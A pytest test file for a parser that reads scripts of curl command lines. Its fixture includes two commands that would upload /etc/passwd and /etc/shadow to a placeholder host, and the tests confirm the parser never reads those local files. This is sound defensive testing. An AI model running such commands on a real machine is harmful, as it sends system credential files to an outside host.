"""Files of curl command lines: each a request without an answer; no file of this machine is read for one."""

from __future__ import annotations

import io
import time

import pytest

from inspector.errors import FormatError
from inspector.formats import curl
from inspector.formats.captured import Captured, Passed
from inspector.formats.detect import detect

SCRIPT = b"""\
#!/bin/sh
# Copy as cURL
$ curl 'https://h/b/k?x=1' \\
  -X PUT -H 'A: b' \\
  --data-raw $'line 1\\nit\\'s 2'

curl "http://h:81/
x"
set -e
curl -T /etc/passwd https://h/up
curl --data-binary @/etc/shadow https://h/data
curl https://h/open 'never closed
"""


def items(data: bytes) -> list[Captured | Passed]:
    """What a script holds."""
    return list(curl.read(io.BytesIO(data), 1e9))


def test_a_script_is_read_command_by_command() -> None:
    """Comments, prompts, lines that go on, quotes over lines; what is no curl is passed over, and said."""
    first, _, passed, upload, data, broken = items(SCRIPT)
    assert isinstance(first, Captured)
    assert first.exchange.request.method == b"PUT"
    assert first.exchange.request.target == b"/b/k?x=1"
    assert first.request_body == b"line 1\nit's 2"
    assert first.exchange.response is None
    assert isinstance(passed, Passed)
    assert passed == Passed("line that is no curl command", "line 9")
    for one in (upload, data):
        assert isinstance(one, Captured)
        assert one.request_body == b""
        assert one.exchange.alterations == ("request-body-missing",)
    assert isinstance(broken, Passed)


@pytest.mark.parametrize("head", [b"curl -v https://h", b"# notes\n\ncurl https://h", b"#!/bin/sh\n$ curl https://h"])
def test_it_is_known_by_its_first_command(head: bytes) -> None:
    """Comments may stand before it."""
    assert detect(head).name == "curl commands"


def test_hostile_lines_end_in_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """Quotes that never close, a file without an end."""
    started = time.process_time()
    items(b"curl '" + b"x" * 1_000_000 + b"\n" * 3000)
    items(b"curl " + b"\\\n" * 100_000)
    items(b"curl " + b"'\"" * 200_000)
    assert time.process_time() - started < 20
    monkeypatch.setattr(curl, "LARGEST", 1000)
    with pytest.raises(FormatError):
        items(b"curl https://h/ " + b"x" * 1000)
